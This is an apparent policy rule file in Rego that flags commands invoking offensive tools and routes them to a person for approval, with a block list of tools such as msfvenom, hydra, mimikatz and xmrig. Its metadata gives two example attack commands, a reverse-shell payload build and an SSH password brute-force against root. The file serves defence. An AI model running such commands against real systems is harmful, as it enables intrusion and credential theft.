# METADATA
# title: Attack tool
# description: >-
#   Programs that make payloads, guess passwords, search for holes or stand between others. They have honest uses, of which a
#   person decides.
# custom:
#   severity: high
#   remediation: Name the target and its owner, and let a person run the tool.
#   examples:
#     - msfvenom -p linux/x64/shell_reverse_tcp LHOST=192.0.2.1 -f elf -o x
#     - hydra -l root -P words.txt ssh://192.0.2.1
#   lookalikes:
#     - grep -rn msfvenom docs
#     - ping -c 1 192.0.2.1
package sallyport.rules.network.attack_tools

import data.sallyport.lib

_tools := {
	"aircrack-ng", "arpspoof", "bettercap", "bloodhound-python", "crackmapexec", "crunch", "dirb",
	"dnsspoof", "enum4linux", "enum4linux-ng", "ettercap", "evil-winrm", "ffuf", "gobuster", "hashcat",
	"hping3", "hydra", "john", "kerbrute", "linpeas.sh", "macof", "masscan", "medusa", "mimikatz",
	"msfconsole", "msfvenom", "ncrack", "netexec", "nikto", "nuclei", "nxc", "patator", "responder",
	"searchsploit", "secretsdump.py", "setoolkit", "sqlmap", "subfinder", "theHarvester", "wfuzz", "wpscan",
	"xmrig",
}

ask contains {"command": i} if {
	some name, commands in lib.named
	_tools[name]
	some i in commands
}
